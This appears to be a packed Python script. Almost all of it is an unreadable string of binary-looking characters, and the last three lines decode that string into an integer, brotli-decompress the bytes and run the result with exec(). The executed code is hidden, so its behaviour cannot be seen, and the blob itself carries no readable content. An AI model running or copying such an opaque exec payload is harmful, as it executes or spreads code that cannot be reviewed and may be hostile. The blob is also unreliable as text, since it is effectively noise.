`yqIC˕A\-.MY)qaҽ8xZp8}(+	Y[PŘBE>\Y|.
i\R"_=>#SPӪ6ЂjШ̚|t24+i7563||1A%HQ$ǧnz8[`%iw(+^Ǯ_`-wϼ$P3& 
1jMř2EICN#8ߤaiCʋ-OoPR@d
9ˑ}
Z	*JH[FLZ[AqpO1xjh)o|v"@ʰTDN0o+6`3+TQ!AOh@g!M.4XqG%wxT]QVF<XSL99TA|-)T9-wDZȰDBf_MiH]}%sb0FSc1|GsFܛ[z>|g_L/&E+-.H1^jDݻGQj<bif݀St|ޙ("x644r]ӮzA&:ld%wzE{[ܩ4ȯ>t04-ubڳȋ4ն^Sfjn$meƠ̋uƹoWţ8/QNDa/NEzxL~oI~Jǜv
_p%|b+sPpa-ܽoHDɕiav4P~mk+)7Q$fv8ϲFԕ<9>STDzts$=W|ki<͹`%11]L5[28qzqKo<`MΆA]zu҂6Jcb5zvڵvESr5]G_3)uPVs$Rk޴ހͱo:|uN;Qҝ4Gu2/f5Z4ߡcJH:YxnVu<@7Z+.E>W5>%I_DkI!Ak
Ս9a\'Vk>ھSAڇ9/Q1V#%MۛMRۊ.aۆFRJc?۱'ݲSw)M̑6@D+-N8mA!l,wHz
atyi?%_(*'.Yj,&LlbAIvUXPTϏ1#}C*3#__5:xlўWhn?8sny.QkB"dh_bq9s@f1-r2h3If=a*#b9QM("b{`ѐW*^I()oO!ռˁU0nI*+rir$=w}ΆWi(Ryfi6ȩ4iW0dCo.ٍ])vBw>P9lm3t+Ra\Y5y-_*s|ed<ՓӊXC|[rF#gY+{)Πw,W-d5)/'r/zpٖݪq;|Lv;Ztrȶktz$6N,6[t9EDeyʄC\	]ăt1R4.[bg Fyz+e1Gu!L{^Mgڅƍܢp{:GV=mM71޽jB_[~O6kNəJ6L֤YI.}>؈O_~&s;=rS`*^-l{:هɧģiO,cb]x"N[5ҊZ"އLxݱ)+dOw#Z`G݋ך_}?"KQνxqY=0~Dobt1xZcRеV˭ҹ+Ô>]x1Ct6[Ѷ4a}xS#M./G.{iqXCqՀ]ŕq2?Qp˦sZ'4U+޻ȯWfb"+ٔH\h*Ug0?>Ʃga؈>Ôh3U=YFB^җO5҈>Sp{nھ+3u
(HݳKholC'?´zҤU͸l6PMIca _|fjm7"7W-biѼ'݀ԅu\ɊRBpOIMb(o\ʱYR0Gf 	DuiSڿZ	ÿnZ]Z:,2iu9@gEƟ5`j͝m%=܃j#2g'..u5ϔțyݪ5maG:ػiɤP'Te>*i<zסm#l@Ҭ%Qxr
18՘pZÙYПlQl#=K`FW8R	џjE`iڵʹiFuʶ@'ff+\c8J0ʮ.~F X̠\jPw_mnEƘOw-βimW~`wȸnUa"Y[ǿߘ9AֽzI/`5W/®o52%$!IW.6iDD}J77@X{Ic2usX)>!	0ʿl&}Rk;wuL' $Z>;؉QTeaقUѦu<i,{*ԺoB(.ւi:M@&AʙSDzcB=ҚF+g,ǧ5vj["^4[Rҝeb#*چé`:8_~puD^ծ>Acȍ)nX`Y)2i&	Ob[04ƆH|gLaƳIz7̿\= 9IV>W-*|X\1j$ƗGCŭ>|HU7_
qNT7xք/\_L|IjMZ_X2<ʻ)ګdQ@&TV+a{Urĥs6QO5CՎ1h$ U5	t:70Qsr68Z)W;ֳ,ʂAC
Q[ɭ1:k3^:|ϊa*t`M|>ՖH˯Ə'&Ue% 3O?;jӒ}oyӍ	)_N$Mz/$W͑oՒ"aVj43I`hZf7R&:,9k=Ο
>Ć_ɘuP5ޜ9qe1a4Z|+MZ҇kg[@%ձ<bJ%orPH&б9L&׋͙Ǘ)FadٵT	_8z<RX݄)ƅQrx>Z36ܼ(|ۈarNڱXmw'Ay\_ kɿj0:&&>hi;V:tpO;q_ [ZonP~S'}1Fyt<5<9hԘK,G*j˃ijX#nύzJ`9O`/NH,3Ǵ5kPRG=~v{άd:13"إ1¬+kd<&ҭc+~=G'd$xWsANK^QdKQ	=*cL:;%XJ]ܑuRcs=LePQQҳ	ُZ&1!6Nʋ)	VѶ{m."bb( ܸ~Nt:-
U$t@p	}TFȅXIۘ:O.3g+KֹH(TI	6$?9ąRٰUTʧ:iѯLkIŧf~aԋJ%dphƸj[r}pF¤\&7aMpG5\x9SP:l
gNr2cm*=G{Ja%g3xs>!ytTLܝM~@LO٢:mH,>'Lmj]k1haYz\%t^3GHf|#ɈoWXRGe|:̋m@fy,hGj߈C7\t^Z'yNm*-fq3T^H,cқlq'4|DÊIQ׉2ՕG#v/
NP˂mƫ)(K|R0!u҇/2?(M`]fTW$Ȁc7`QEr>*Q)eizOڟ;ۯKThÖ,.ҫ){=*'	('c0`9@)eQ[w0CfUZThe{j*ч!)SxWșC+9aqwW}b&Nsɇ·P5&):I`QmBp@WS˽K21ptǸ5:Gǂm˾&s,}5-u_D٨DqT½<!IPxr^|={#vE#IUPsMUƕ\ϑs~˂!	`Q̱>>4å=wޫ·7wfݴA,ߐpw@Ii۬Uך<DҀMUƖڭ@1]6JZMoCŮԍ'K3/[ϹkѤ.&f,GH\ηԍvQq~;+͐п5Nv|eJͻk8H "	PwCҎ4m_͐Ylfs{
Dא}56ӄmFTۭ+5& ;9"GڸJg>Lx.gT21kѠգҽdxNWd~w{e'q
סԡW?!(AEΓ96('L7\asN٠+q@k=>BybE,5(M 1k8m!	G&҅+NcП" a\g1|pޱo@;v܍iP{+JPLD%7uű*q7EU`O(+lt`ܝan4$st8 	X̛7CNxQ8nI|?ؾekMȟ.o_/ :Ͱ\ZOXۀ48tvוHm\N3$PZKܗ1'P\fE"lH)?ih~GiϯW,8Zؒq[&l1:RIxyξˆw7
ZXDN(D+ ]
"p.Ry9h/hH&EG^NŃv
elZ!NU1'0K7#)tV/Tԟ_9= G
pvK٫s7-ӄi$~ɒE)k'ESpNoNWca9cb<,=!܎)Y&ՠa]+ˌ*G\4>*jnlG[ŚJr׊-Cʬt,!Da{}o	ð&V
D-ףk
:!+T̕nsb"fLم3rݮTvUpu91z_|W}Zls5V=^*ME76ֺ(~`B>!/ɰd$ˑ(oy<sXTQj&,A4lgS#P<ɪyL1՝iSGgGF`	0$ck]/> keR7:\NaHi. lWO,S_~hhۆ-eRUT"	$.Ŗxe/{,5vSm>mz!м`QӍmQT`FT*)c-~PE9qz}bC9C18)3 }'>ݕ>Ĭ`Q*M"<hQ1%P]hU*&ysOI}[ghvnhgڈ.kݪʉj~I>Ice2:[&%u\R]H}nelΊʇ2ȹv]'_b[=0Tp.׷Z
9mFl	$J@6v"Pcwk:̊[cxUٓw?<m3PNS+M-(wTwM$ө+߀Vܗ]mƄ&z@LZW</M;nݕ:wZw1RDsJf'RC=fţ|#]NԆ;Эc^3lɋdLȘxg9X"uER^Q,"[Rl3fR;\E(Sg՘|c˴ʚal@4Dp{_i<'qJ]v5c?x\:IШ%U9S.sO+b^ѱYzԾl4#&RȊFτ_(Mգ#ι̭h̐HGX}5QtrIiJ4cRĳ>Oۂy{W:7Hk3֤vLI'5֌iۙ`Вi*N*զ*´cM	B1F\i`v9thjACq!EoMs&-_tWg|HI`g~'@2NOaRKzDkЬqNnΪVz4fniu-ͽ`T8;CTE/ݙj<bBVTzw۸CޙٰJIUQJ$C#_x/U(L/WO!4%ߍ_SQΠc'xPPZ
AĜH	'62
ͥO͞ۉwH>Iy3&Ҹh5%xg:a1y
)?W B.3 5ע4аIDAwx'dJѣ؛s_֭(9W>.W!ruxdhsƷLZ:'_ݰ1JЮ^yOg=SjV ވd<)DBGϔ-h}#S	6/EjEaB
+*ls!1Ƀ
HK\oA-49Lgt~;q+83~A	_TA.@aL>	fҎIXR|'R:ճ\ לX9	ne}ܳckʋm}=
׺Ski=[n<aM@]BLEa jx#6syp:$p=$9[];-C*;'gnp:bCfPtjߞ^Cʃ½M{Gq_%z
fmmSbIZ#`LIj7֊.p'E&eġgL$Ax,=r
*PI]_/S+_
`uS[6zU@O"X2IT yߊGIWyj5P`B'v|-B+_wc@bԖHp<	f[}#~^2`f g*ӡbJL0m8
Մ̭̀^%wc@ӘٙEuX٢7>Epc3ؿ_\_,"1EʐݾRS.De\
)s.tq[0|vʇY|;
 ŒZbH!$`eϽ,f""z4y$1
@9%]^:1D[fF1[9"+5ú7ip5IGؐVS$A͔[:/HvKRRoCʹRn`16bX{
ÀޙтlؾsiTރ}WsIyqsEF)-dFZ)
Cxdf{8B)e8Fx/['obEdNRxNҴPtޗjM{w7p(GbP6ON8=YK|s^0<\>ϧx5R@?eC]ۅxźo@2+%D)bG.iffj'էLGG2+ZDݲ(TmPCW(t@!3ȁŢVӜI[;DCs\+!gT`O}%n@' j^D
ǆ?$GSRxwPYM̿|6*Fm,@-Iê,Y! g14a6Z$,!uNW6mM1ΛLlPPc,.R۷T|R%+99*:gYoK;#c֑8n5gh4ZkɼIVB$bp4̻$:zbM;~&l8Voˣȇͼ(eI20_)6١(رɦI6ǰtW1VLr:/.pB;((P!Xؼ?Ruw6UQź54B62;V<]DM>*ͼg*G<
g)F0M>c{Ş!Ȩx?g71xB5f$IA_$ wi_۽۽:ʔ"Â-C\#ª$#=$Z/h;}*	wЛB+iBUȄzm\1Aہ ɜOD}\Sc\mi[o>dab<hxS8N:?xqqtHE 8O0C#Rܰ}^I+0Iѹw9۱m69ie+q=Cp̿	#;`/x.ٜuJC7lnV^4ʄuĒCb;һWbٻAzfRKaRx0җ^ShՓyTZ\\;;H$)*hJyӖԨIItҞ.q֯~G[
h2Əݧ)Hl	otl2I+{:Mg#3f>1A M:bvP^fyt73GjMR-nStMJΖ.0Ѩ/{؍%0B5~JR"BQ2j8l	ͬXX{("m>.`hlݞf׍ٜ2+~tm7q3ƟX{ʐlW=ZwyK"fɌmHْ@~|]`*J=)˔^$qQ<x&uk'`g7<xwgmpI2A|`d}KS`tI

x1[W3<Qh՞S&TcX~l02,CpYmΠ-Y'Q3z9{aU<eGs{)0S#bY	n=A{tS_TZ*ׁ
;TXSd4I3M)GϨ1k8{rXJEYQP|\TO;463bf@yȞEZL+TnÕ>$*L\TщFj^Cb;:9Ңg!&!<t'Se˥K)xt׏RHqQ6̮­ffisN2Ϲy^K	k7Zлv?stgoLqՅrL)Yϫ|Ì2BXg*H*|TP`GтXUF#/vG'p=,_B8w=G7n+'lI~g
NyX|dHՔGzE
<љ(IpXDF'ٌSЋ?6ށ9o6Ubj^iT+Ѡ_sͿȊϗgnt0ZjbHɣvIC|i#a)ںB%q <_(0o7!nғkT*DA0Հ2a60L#WguG>2DH&U˟|hQ2<c3ϥA·¿v$Gs95;/x]ad0g݃vg}
G!ܚ]]ؕϩ8upL!8:Pe{U҅0-
گiU/-P߻_KF5
 K<;=;>Fٸd-ؔaOyy` w7^a>F'"_݆E/&.'2:/8zcG`N"m߯HsrՊ9Q9\n@m~z38?^ԓb֖,̚yƣcɎIJmG:klNז[#y_ah͢ct%im!ulWIh]qfD \d"SSgG;%FNlҞc8;'w"]	ٴj^w#OhBld/51A9ބ9AjHwnxdi~e0p!_;h(ݏVztUT)7LdOoG#3zs"T<ҳ$c9P7RߝơPTZG1+uE+onǐ'(LKJsoxW>hĤf(L-Y	1FHГX{Ȣ`%fѱ"E"`46KO~%7A+xJ{ǬOi@NI+8v! ͪWhDqb$BEJ,eզP߫qoέհ%S\umؔ.8*lAT,bc{,>/&'Yuםr}w>tYW8۲`DX2T@^_rc@NtH?WߖoxL|sA oS~ʘinz"~ɟ	{2
ٿbĳMo sNdߨλX>חxvŏ"&Ҋg//cL.TLއԽ%m>ԏWqSbvPdO
t%-Jˤ#6KDp/@ϵ2l}0>$h("&]v<g8k۽,IO0-A>H	O͎n#."\D0ia49W`רDTh/	Hq8nTTN&!Ë"<K|dU=EfGRQH:6^Uz8V{~a8]t']0-XyxxdGq-s%q?%ZC#U-ɋ.dNlwOԡ+LMe.d47P7W2KӖWuw<IqIVEǉB9 ĺ<kyօ:ح~0cB_M_x	IsP-[6JHϒsYOC
x(,VYXjP	0-߷AҶתV
|+Ao*t։6hIhk&,Oir(5>{ćlW6]aۺ5q1SHgI!1Ry ̌ gܐcwLøaq{y߰ʴj2=#2pj(1`u³@w%4e,:iGEٵ[[Μ]p}mε,=޹ف=vtg̗pq>QBV۸Y'ΒڱqʙCr.+<:]h}EUͽHΔn՞,5Ɋ=ڲрBaP֟׸`ՂOX;أ64\vnռiKg5<hZ'.ցVԹl*$lQRƉQuV@ߏn0@ɟn	TJN3҇gvl&ٚ1g;qfYA|UnQ/K:M)բ	NLYu,?'9Ef`f`68*EF)|/Pʝ:&ʮf>l*A{\)Eƅ;1b_ZD]Y*iwb-^AR]3{E@߫mxWtJNС^w1|}uJ9P81+'>ˈ<.tlޓD6-:)
e~)~Nf}6Q*mӁƳ58Fi~pOK)XZ	sTb-$\(X!ޱ<!Q|Ua;z͌}5G!Y:pA<'}}~<l=|o}"ӜKֹ7Qc}afʫt޶'S3ϯL89v7jw5*O¦NK1jV@ߌrk5@zӵ)(Z77*qV .3iSG`-7YKG.2M3ѱANwQ!;n
ůxp56į	+ĵQi݇ں;սV`Q1"e7FݫgL
&94oXֱJIW!ǚ%9ʇII c9 ̆lD3>q)[@;Pv?(ڷDȔ{ߪ	s._d5uEƳ!NB'fP¢>fڴTQ?&$ ȝ
oD~)/d*2ZϷL3(H͈<BrF[ .FOژjϥ#nHGF[T(Y5,vF1R}CH|~ݿ.-*OYی\^ ]ac,O.O)d)v>v-\@
VcͭHUǀObϮx$xGwܒAQ-?ɤO|--ޡPH̴Sb:#bF6_أ=({](4-64WUŭN@"
7XoB1/ .Ѥi,$	~Tlޫ0m?gd/P%)׋tϤĉ&"bUjLާg*̥@ع|M9F]^=	n#
\}i~%*0;NĠYVpzFN/ܬϤgK)YXZ1Q]h/a7
'͌MY }9ۿ>[΍kzǸVp,R7pzqAH(P8xf0IU!:F̔
.S2V9B8Y)Vbiw$±Ųn^DЌ~z*MwαVegD.ϡ&i3ߟ"͛lˈES?hA?K۳5M݄T"ߞ.sLWN"ʇT}*ex:ީ)c(oοAƧkvw/@8seo2p7UIBɋhƵ(+5KnNY:K I24TRyl+Xw{ i}j'>q'M)؏%rs~ZrF!'B1-,3vY%.+S3~6[+ޡ_$mIu
M8m!<]e%0?b#>[x_ԠӛmQyϽJa)8ww߁/2;dxF=\K#]Y-Xf~Ǆp2$pnʢ˯r0+rI	!z/YS؝@>(F|
K| o8boWdtf#T?_/.,Khޯ%*Khӭa2a><T9b"Iא)ޛݔV/_FyJJ&82DT_:	]am'Mq=GZ`:!o؋cx4[Nr-/ploT,V<ho;Nt:= 1k::zݰ[!@2wem=ڳ@@$}ĕ"[ވ`'	ܪX$"R+1>Y0r1'uzBҙr͝Gjm[ݔ215W0f*^A|a0QۄnO
v`a>^$"I*̪LM`ۊy4B3tBAgp-,p-aBՄQّ[HVLs}x!wZ$#)7^8h}܃̷UC~]jVp6EgPN"l
Wlt>)?̨e~}]T^"ͣ"ޤ̪\̱d794q4ZuRVB=Y<vjmx[|ȓ-s;ޑWй)i):VFWS&o!5Z`ׯQl j"uXl'GXܯ9+ֻrLU`VVh]+Abt-a}+,{$\tX?2TAsrKlW=%sj)q3@O
r߬>\/e#6Fm|ٻzJRt!IL'3H3)<;'Զׯ1qdL0DI§ڙWAZq";<bcqs,Getsp}ݪw_qfz	o
!56'IZ\XɈ

וC`1ɮwuܥFv<2qi͡o5Yyuy|vs_<%B\߈![$8ɯts5(lw$lSIAa5Yք݅'4R^\1Jcz\́YöN]K55:	D"ϻV0@&15a@!UICW&OSgg~>TOq\^PЇʫz=[hAֹV?ʾ$pg
Mcu5.#cbִL ,iGC*bIڟHmߵF2h=w2Kb}X&zu:Ρ9_w=9W	m&UքtV!MI̺ak1R^P,HflIF.3q=ۀL<
/WEɰ#Tؘ*VgovR7tH9tՒ#2![sL'"Y/`<6=4c&Y7rWL2xaD
\>e=<`ڼ=wʎ|}Sҡ,N5Ǉ͍itގqmH#Apű֋/pU7(|vE̩DM'56ՖV+U2KB-NKX?C"
YesdpKڐhe&:+$rĥ:g+ʺ)ѾJJY f!ڞڦ'i,9[\A͙;dTpkFӻ.~/
?CLQѣ)[#ɟ5)xkM{@&@@MSFk5j{GYR25<QUcpAF0q7/жhOI;EJ'5)'-K̗̅t]x7}'XkoLo#i
_&Z[k_;Ƅ!,?pC#~Cjr+sý	O%0nP;gm3&}{ǰ.(:]é<Ľmu_LhZaTuϰ>nNӄLӓͯNx?̹tgKq5ׂ\:I(eeSӥXzk8uk|h}Y&[\ec5՜_zH,1źL^cv#R^	RJ&2@o9@x\0\$fդpۯExyĴw"h@	֊/f<M ~tCe0r:ZRo%:r!xMq4bY;4wCPRˢRv!JE/r	Qsv`'S{;0p_;+BG~ŧN֌٘:I-J~Uݟ[qΘ:ZݵA$#Ke62xzá=}
ܦLeٞDݙxe#%ϱ>*ERPPyˉE;q
MǑ3-JKCmq e7UkZ.ަYI%FFYaeUD^Go;fko&J̹.%[S/rHkzS:\жЋjjA2d|)Ig<qfz_Kg25Y;	NPٳ{y8oc5בض;xvUp'40Kdڤ"lgC)J-!2q	7Pwt۟/U	ɽ94A.LAYcȌI_kR(ȞF>-?XEY=ѼG+WQX؛fק0_#Ӄۋ4&S=OyeLks ~T0<C)gGhEع\;D20Oaxt~RKD͜Q3(6ĳS,۪'I:#μrE&N+'yWЦC*RA'D]~;ѿ0wlB&MB2X/D?oOVEw6Ԫж`{eǆ]&s?qXlY(,uԊ`Ŀzr'5mWki
E14%@Rk$=6Tvo>ڰ̙A߳kXQ/`ڭNۛw$L.jhDR#m5z	ESvM|Vzҿ.јӏF&GNZP[S[L#Z}9@~{U04/΁~s fCguKybg|&ơhݯhUدvc̦Gsy::*ڃHe)(iO˛R#),Wߐ07O`ٴ[8qй`$((h!q_.M,}Rp`(Sf[P6d]ս˒(QAmճzR܄N#4ĭV,snh׃m0hM>QLI/v~QkyoLpԯNw2hҀ#UTD)z9Nql81^]R{^عj<X۰~¸d1O/%o܁@OȺl_9ɈhًbL*|B\F/e\x^lY+D0a%p5[+֒f͠}&ͳ] ΉjN>hwv4c%8'6\uI;Bֺ1VIͱAGztUЕ3''':
 o=ord(c)
 for x in([o-1-(o>13)],[o-128,126])[o>127]:n+=x*b;a,b=b,126*b+1920*a
exec(brotli.decompress(n.to_bytes(25397)))
